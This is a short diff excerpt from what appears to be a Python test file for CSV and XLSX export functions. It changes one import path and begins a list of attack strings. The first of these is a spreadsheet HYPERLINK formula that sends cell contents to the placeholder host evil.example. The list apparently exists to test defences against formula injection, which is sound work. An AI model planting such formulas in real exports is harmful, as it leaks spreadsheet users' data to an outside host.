@@ -10,7 +10,7 @@ import zipfile
 from openpyxl import load_workbook
 
 from padan.reporting.adapters.exports import to_csv, to_xlsx
-from padan.reporting.views.models import Column, Table
+from padan.reporting.domain.view_models import Column, Table
 
 ATTACKS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Klik untuk detail")',
